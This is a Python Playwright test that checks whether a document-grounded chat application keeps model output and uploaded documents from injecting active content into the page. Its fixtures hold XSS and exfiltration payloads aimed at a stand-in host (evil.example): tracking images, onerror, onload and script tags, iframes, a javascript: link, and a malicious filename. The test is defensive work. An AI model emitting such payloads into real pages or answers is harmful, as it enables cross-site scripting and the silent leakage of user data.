"""The page in a real browser, when a document and a model try to put links, pictures and scripts on it."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from application.live_application import LiveApplication, borrowed, live_application, open_test_engines
from application.test_page import page, pytestmark
from sourcier_core.chat_models.scripted import ScriptedChatModel
from sourcier_core.db.database import Database
from sourcier_core.ports import DocumentParser

__all__ = ["page", "pytestmark"]

TRUE = "Un salarié peut télétravailler deux jours par semaine"
ATTACK = (
    f"{TRUE} [1]. {TRUE}, ![suivi](https://evil.example/p.png?d=deux) [1]. "
    f"{TRUE}, [ici](https://evil.example/login) [1]. "
    f'{TRUE} <img src="https://evil.example/i.png" onerror="document.title=1"> '
    "<a href='https://evil.example'>ici</a><script>document.title=1</script>"
    "<svg onload=document.title=1> <iframe src='https://evil.example'></iframe> [1]. "
    f"{TRUE}, https://evil.example/nu [1]."
)
DOCUMENT = (
    "# Télétravail\n\nUn salarié peut télétravailler deux jours par semaine ![x](https://evil.example/d.png) "
    "[ici](javascript:alert(1)) \u202e&lt;img src=https://evil.example/e.png&gt;.\n"
)
ACTIVE = "img, a[href], iframe, script, object, embed, form, video, audio, link, style, base"


@pytest.fixture(params=["strict", "flag", "off", "quotes"])
def check(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture
def live(database: Database, tmp_path: Path, check: str, shared_parser: DocumentParser) -> Iterator[LiveApplication]:
    model = None if check == "quotes" else ScriptedChatModel(pieces=[ATTACK[at : at + 7] for at in range(0, 900, 7)])
    with live_application(
        lambda: open_test_engines(tmp_path / "data", database=borrowed(database), chat_model=model),
        parser=shared_parser,
    ) as running:
        yield running


def test_nothing_of_a_model_or_a_document_becomes_active(
    live: LiveApplication, page: Page, folder: Path, check: str
) -> None:
    (folder / "telework.md").unlink()
    (folder / "<img src=x onerror=document.title=2>\x1b[31m.md").write_text(DOCUMENT, "utf-8")
    live.http.post("/api/corpora", json={"id": "hr", "title": "RH"})
    own = "default" if check == "quotes" else check
    assert live.http.patch("/api/corpora/hr", json={"claim_check": own}).status_code == 200
    assert live.load(folder)["quarantined"] == 1, "a person lets it pass all the same"
    (review,) = live.http.get("/api/reviews").json()
    decided = live.http.post(f"/api/reviews/{review['version_id']}/decision", json={"decision": "approved"})
    assert live.wait(decided.json()["load_id"])["published"] == 1
    page.goto("/#/ask")
    title = page.title()
    page.get_by_test_id("question").fill("Combien de jours de télétravail par semaine ?")
    page.get_by_test_id("question").press("Enter")
    answer = page.get_by_test_id("answer")
    expect(answer).to_have_attribute("data-state", "finished", timeout=30_000)
    expect(page.get_by_test_id("claim").first).to_contain_text("deux jours par semaine")
    addresses = [link.get_attribute("href") or "" for link in answer.locator("a").all()]
    assert [address for address in addresses if not address.startswith("#/")] == []
    claims = page.locator(".claims, .sources, .draft, .withheld, .refusal")
    assert claims.locator(ACTIVE).count() == 0
    if check != "quotes":  # exact words of a document stay as they are
        assert not any("evil.example" in text for text in page.locator(".claims").all_text_contents())

    page.get_by_test_id("source-1").get_by_role("button").click()
    panel = page.get_by_test_id("source-panel")
    expect(panel).to_be_visible()
    assert all(link.evaluate("link => link.href").startswith(f"{live.url}/api/") for link in panel.locator("a").all())
    assert panel.locator("img").count() == panel.get_by_test_id("page-image").count() == 1
    assert panel.locator("iframe, script, form").count() == 0
    assert page.title() == title
